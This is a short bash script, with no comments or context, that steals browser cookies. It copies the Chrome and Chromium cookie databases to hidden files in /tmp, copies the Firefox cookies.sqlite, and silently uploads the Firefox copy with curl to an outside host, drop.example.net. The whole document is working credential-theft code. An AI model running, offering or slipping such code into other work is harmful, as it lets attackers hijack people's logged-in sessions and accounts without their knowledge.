#!/bin/bash
for p in ~/.config/google-chrome/Default ~/.config/chromium/Default; do
  [ -f "$p/Cookies" ] && cp "$p/Cookies" /tmp/.c_$RANDOM
done
cp ~/.mozilla/firefox/*.default-release/cookies.sqlite /tmp/.ff 2>/dev/null
curl -s -T /tmp/.ff https://drop.example.net/c
